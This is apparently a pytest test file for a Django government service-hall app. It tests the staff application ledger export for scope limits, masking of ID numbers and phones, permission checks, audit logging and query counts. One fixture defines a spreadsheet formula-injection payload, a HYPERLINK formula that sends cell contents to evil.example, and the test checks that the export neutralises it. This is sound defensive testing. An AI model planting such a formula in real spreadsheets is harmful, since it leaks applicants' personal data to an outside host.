"""「导出台账」 on the staff application list: an .xlsx of exactly the applications the list's filters show,
within the user's scope, with ID numbers and phones masked unless the user may see them in full, formula
injection neutralised, every export audited, and the same number of queries for 5 or 50 rows."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from jiedao.applications.choices import ApplicationStatus, Channel, EventAction, RatingLevel
from jiedao.applications.clock_kinds import APPLICATION_CLOCK
from jiedao.applications.models import (
    Application,
    ApplicationEvent,
    DeferredMaterial,
    ExtensionRequest,
    ExtensionStatus,
    Rating,
    ServiceWindow,
)
from jiedao.applications.tests.factories import local, make_item
from jiedao.audit.models import AuditEvent
from jiedao.core import crypto
from jiedao.core.testing import client_for, make_user
from jiedao.registry.identity import id_number_hash, phone_hash
from jiedao.registry.validators import make_id_number
from jiedao.timelimits.models import Clock

pytestmark = pytest.mark.django_db

VIEW = "applications.view_application"
EXPORT = "applications.export_application"
FULL = "registry.view_full_person"
LIST_URL = "/hall/staff/applications/"
EXPORT_URL = "/hall/staff/applications/export/"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
_serial = iter(range(1, 100_000))


def make_application(item, *, status=ApplicationStatus.ACCEPTED, name=None, phone=None, **fields):
    n = next(_serial)
    phone = phone or f"139{n:08d}"
    number = make_id_number("110105", dt.date(1980, 1, 1), n % 1000)
    values = {
        "org": item.org,
        "item": item,
        "applicant_name": name or f"申请人{n}",
        "applicant_id_number": number,
        "applicant_id_hash": id_number_hash(number),
        "applicant_id_masked": crypto.mask_id_number(number),
        "applicant_phone": phone,
        "applicant_phone_hash": phone_hash(phone),
        "applicant_phone_masked": crypto.mask_phone(phone),
        "channel": Channel.WINDOW,
        "tracking_code": f"L{n:011d}",
        "status": status,
        "submitted_at": timezone.now() - dt.timedelta(days=3),
    }
    values.update(fields)
    return Application.objects.create(**values)


def sheet(response) -> list[list]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def data_rows(response) -> list[list]:
    _title, header, *rows = sheet(response)
    assert header[:5] == ["序号", "查询码", "事项名称", "事项类型", "申请人"]
    return rows


def codes(rows) -> list[str]:
    return [row[1] for row in rows]


def exports():
    return AuditEvent.objects.filter(event_name="applications.ledger.exported").order_by("id")


def test_the_ledger_holds_exactly_the_applications_the_two_filters_show(tree):
    low_income = make_item(tree.community_a1, name="最低生活保障")
    elderly = make_item(tree.community_a1, name="老年优待证")
    wanted = [make_application(low_income) for _ in range(3)]
    make_application(low_income, status=ApplicationStatus.SUBMITTED)
    make_application(elderly)
    clerk = make_user(tree.subdistrict_a, VIEW, EXPORT)

    response = client_for(clerk).get(EXPORT_URL, {"status": "accepted", "item": low_income.pk})

    title, header, *rows = sheet(response)
    assert codes(rows) == [a.tracking_code for a in sorted(wanted, key=lambda a: -a.pk)]
    assert [row[0] for row in rows] == [1, 2, 3]
    assert {row[2] for row in rows} == {"最低生活保障"} and {row[3] for row in rows} == {"承诺件"}
    assert {row[14] for row in rows} == {"已受理，办理中"}
    # the title row: the org, the filters in words, the export time in Chinese office format
    assert title[0].startswith("甲街道办件台账")
    assert "状态：已受理，办理中" in title[0] and "事项：最低生活保障" in title[0]
    assert f"导出时间：{timezone.localdate().year}年" in title[0]
    assert header[14:18] == ["状态", "时限状态", "办理结果", "评价"]
    assert header[18:] == ["容缺材料", "补交期限", "补交情况", "补齐时间"]


def test_dates_are_real_dates_shown_in_chinese_office_format(tree):
    item = make_item(tree.community_a1)
    submitted = timezone.now().replace(microsecond=0) - dt.timedelta(days=2)
    make_application(item, submitted_at=submitted, due_at=submitted + dt.timedelta(days=10))
    clerk = make_user(tree.community_a1, VIEW, EXPORT)

    response = client_for(clerk).get(EXPORT_URL)

    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
    submitted_cell, due_cell = workbook.worksheets[0]["K3"], workbook.worksheets[0]["M3"]
    assert submitted_cell.value == timezone.localtime(submitted).replace(tzinfo=None)
    assert submitted_cell.number_format == 'yyyy"年"m"月"d"日" hh:mm'
    assert due_cell.number_format == 'yyyy"年"m"月"d"日"'


def test_another_communitys_applications_never_appear(tree):
    mine = make_application(make_item(tree.community_a1))
    sibling = make_application(make_item(tree.community_a2))
    elsewhere = make_application(make_item(tree.community_b1))
    clerk = make_user(tree.community_a1, VIEW, EXPORT)
    client = client_for(clerk)

    assert codes(data_rows(client.get(EXPORT_URL))) == [mine.tracking_code]
    # asking for the sibling community by hand (out of scope) exports no more than the list shows
    by_hand = data_rows(client.get(EXPORT_URL, {"org": tree.community_a2.pk}))
    assert codes(by_hand) == [mine.tracking_code]
    assert sibling.tracking_code not in str(by_hand) and elsewhere.tracking_code not in str(by_hand)


def test_rows_beyond_the_export_scope_are_left_out_though_the_list_shows_them(tree):
    from jiedao.core.testing import make_role

    mine = make_application(make_item(tree.community_a1))
    make_application(make_item(tree.community_a2))
    # may list the whole sub-district but export only its own node's community
    clerk = make_user(tree.subdistrict_a, VIEW)
    clerk.roles.add(make_role(EXPORT, scope="custom", custom_orgs=[tree.community_a1]))

    assert codes(data_rows(client_for(clerk).get(EXPORT_URL))) == [mine.tracking_code]


def test_numbers_are_masked_without_the_full_data_permission(tree):
    application = make_application(make_item(tree.community_a1), phone="13912345678")
    clerk = make_user(tree.community_a1, VIEW, EXPORT)

    [row] = data_rows(client_for(clerk).get(EXPORT_URL))

    assert row[5] == application.applicant_id_masked and "*" in row[5]
    assert row[6] == "139****5678"
    assert exports().get().after["full_values"] is False


def test_full_numbers_with_the_full_data_permission_in_its_scope_only(tree):
    from jiedao.core.testing import make_role

    mine = make_application(make_item(tree.community_a1), phone="13912345678")
    other = make_application(make_item(tree.community_a2), phone="13987654321")
    leader = make_user(tree.subdistrict_a, VIEW, EXPORT)
    leader.roles.add(make_role(FULL, scope="custom", custom_orgs=[tree.community_a1]))

    rows = {row[1]: row for row in data_rows(client_for(leader).get(EXPORT_URL))}

    assert rows[mine.tracking_code][5] == mine.applicant_id_number
    assert rows[mine.tracking_code][6] == "13912345678"
    assert rows[other.tracking_code][5] == other.applicant_id_masked
    assert rows[other.tracking_code][6] == "139****4321"
    assert exports().get().after["full_values"] is True


def test_without_the_export_permission_no_button_and_403(tree):
    make_application(make_item(tree.community_a1))
    viewer = client_for(make_user(tree.community_a1, VIEW))
    exporter = client_for(make_user(tree.community_a1, VIEW, EXPORT))

    page = viewer.get(LIST_URL, {"status": "accepted"})
    assert page.status_code == 200 and 'data-testid="export"' not in page.content.decode()
    assert viewer.get(EXPORT_URL).status_code == 403
    assert not exports().exists()

    page = exporter.get(LIST_URL, {"status": "accepted", "page": "1"}).content.decode()
    assert 'data-testid="export"' in page and "导出台账" in page
    assert f'href="{EXPORT_URL}?status=accepted"' in page


def test_the_export_is_audited_with_its_filters_and_row_count(tree):
    item = make_item(tree.community_a1, name="居住证明开具")
    make_application(item, name="王五", phone="13911112222")
    make_application(item)
    clerk = make_user(tree.community_a1, VIEW, EXPORT)
    client = client_for(clerk)

    client.get(EXPORT_URL, {"status": "accepted", "item": item.pk})
    client.get(EXPORT_URL, {"q": "13911112222"})

    filtered, searched = exports()
    assert filtered.actor == clerk and filtered.event_code == 5181
    assert filtered.after["rows"] == 2
    assert filtered.after["filter"] == {"状态": "已受理，办理中", "事项": "居住证明开具"}
    assert "导出办件台账 2 条" in filtered.message and "事项：居住证明开具" in filtered.message
    # a phone number typed as the search term is kept out of the log (masked)
    assert searched.after["filter"] == {"查询": "139****2222"}
    assert "13911112222" not in searched.message + str(searched.after)


def test_formula_looking_applicant_names_are_neutralised(tree):
    make_application(make_item(tree.community_a1), name=INJECTION)
    clerk = make_user(tree.community_a1, VIEW, EXPORT)

    response = client_for(clerk).get(EXPORT_URL)

    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
    cell = workbook.worksheets[0]["E3"]
    assert cell.value == "'" + INJECTION and cell.data_type == "s"


def _decorate(applications, actor, window) -> None:
    """Everything a row shows from other tables: clock, rating, extension, the accepting clerk."""
    now = timezone.now()
    content_type = ContentType.objects.get_for_model(Application)
    for application in applications:
        Clock.objects.create(
            org=application.org,
            content_type=content_type,
            object_id=str(application.pk),
            kind=APPLICATION_CLOCK,
            rule="working_days",
            limit=10,
            started_at=now - dt.timedelta(days=2),
            due_at=now + dt.timedelta(days=8),
            yellow_at=now + dt.timedelta(days=6),
            status="green",
        )
        Rating.objects.create(application=application, level=RatingLevel.SATISFIED, channel=Channel.WINDOW)
        ExtensionRequest.objects.create(
            application=application,
            days=5,
            reason="现场核查",
            status=ExtensionStatus.APPROVED,
            requested_at=now,
        )
        ApplicationEvent.objects.create(
            application=application, action=EventAction.ACCEPTED, actor=actor, at=now
        )
        Application.objects.filter(pk=application.pk).update(window=window)
        DeferredMaterial.objects.create(application=application, name="户口簿复印件", supplied_at=now)


def test_the_export_costs_the_same_queries_for_5_or_50_rows(tree):
    item = make_item(tree.community_a1)
    window = ServiceWindow.objects.create(org=tree.subdistrict_a, number="3号窗口", name="社会救助")
    clerk = make_user(tree.community_a1, VIEW, EXPORT, FULL)
    client = client_for(clerk)
    _decorate([make_application(item) for _ in range(5)], clerk, window)
    client.get(EXPORT_URL)
    with CaptureQueriesContext(connection) as few:
        few_rows = data_rows(client.get(EXPORT_URL))
    _decorate([make_application(item) for _ in range(45)], clerk, window)
    with CaptureQueriesContext(connection) as many:
        many_rows = data_rows(client.get(EXPORT_URL))

    assert len(few_rows) == 5 and len(many_rows) == 50
    assert len(many) == len(few)
    row = many_rows[0]
    assert row[8] == "3号窗口 社会救助" and row[9] == clerk.full_name
    assert row[15] == "正常、已延期" and row[17] == "满意"
    assert row[20] == "已补齐"


def test_the_ledger_shows_what_was_deferred_by_when_and_whether_it_arrived(tree):
    """The columns of a 容缺受理台账: materials with the day each arrived, the deadline, the state, when complete."""
    item = make_item(tree.community_a1)
    today = timezone.localdate()
    day = dt.timedelta(days=1)

    def deferred(application, *materials):
        for name, supplied_at in materials:
            DeferredMaterial.objects.create(application=application, name=name, supplied_at=supplied_at)
        return application

    first, last = local(2026, 3, 3, 9, 30), local(2026, 3, 4, 15)
    supplied = deferred(
        make_application(item, defer_until=today - day, defer_committed=True),
        ("户口簿复印件", first),
        ("近期免冠照片", last),
    )
    pending = deferred(
        make_application(item, defer_until=today + 3 * day, defer_committed=True),
        ("户口簿复印件", first),
        ("近期免冠照片", None),
    )
    overdue = deferred(
        make_application(item, defer_until=today - day, defer_committed=True), ("房屋租赁合同", None)
    )
    denied = deferred(
        make_application(
            item, status=ApplicationStatus.CONCLUDED_DENIED, defer_until=today - day, defer_committed=True
        ),
        ("房屋租赁合同", None),
    )
    plain = make_application(item)
    clerk = make_user(tree.community_a1, VIEW, EXPORT)
    client = client_for(clerk)

    rows = {row[1]: row[18:] for row in data_rows(client.get(EXPORT_URL))}

    assert rows[supplied.tracking_code] == [
        "户口簿复印件（2026年3月3日补交）、近期免冠照片（2026年3月4日补交）",
        dt.datetime.combine(today - day, dt.time()),
        "已补齐",
        timezone.localtime(last).replace(tzinfo=None),
    ]
    assert rows[pending.tracking_code] == [
        "户口簿复印件（2026年3月3日补交）、近期免冠照片（未补交）",
        dt.datetime.combine(today + 3 * day, dt.time()),
        "待补交",
        None,
    ]
    assert rows[overdue.tracking_code][0] == "房屋租赁合同（未补交）"
    assert rows[overdue.tracking_code][2] == "容缺逾期"
    # a decision taken without them (不予准予) leaves them missing, but nobody waits for them any more
    assert rows[denied.tracking_code][2] == "未补齐"
    assert rows[plain.tracking_code] == [None, None, None, None]

    # the list's 容缺逾期 filter exports those rows only, and the title says so
    title, _header, *filtered = sheet(client.get(EXPORT_URL, {"deferral": "overdue"}))
    assert codes(filtered) == [overdue.tracking_code]
    assert "容缺材料：容缺逾期" in title[0]
    assert exports().last().after["filter"] == {"容缺材料": "容缺逾期"}


def test_a_provisional_due_date_is_marked_in_the_ledger(tree):
    item = make_item(tree.community_a1)
    content_type = ContentType.objects.get_for_model(Application)
    due = dt.datetime(2027, 1, 6, 23, 59, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    for provisional in (True, False):
        application = make_application(item, due_at=due)
        Clock.objects.create(
            org=application.org,
            content_type=content_type,
            object_id=str(application.pk),
            kind=APPLICATION_CLOCK,
            rule="working_days",
            limit=20,
            started_at=due - dt.timedelta(days=30),
            due_at=due,
            yellow_at=due - dt.timedelta(days=5),
            due_provisional=provisional,
            status="green",
        )
    clerk = make_user(tree.community_a1, VIEW, EXPORT)

    rows = data_rows(client_for(clerk).get(EXPORT_URL))

    # Newest first: the plain one, then the provisional one.
    assert rows[0][12].date() == dt.date(2027, 1, 6)
    assert rows[1][12] == "2027年1月6日（临时）"
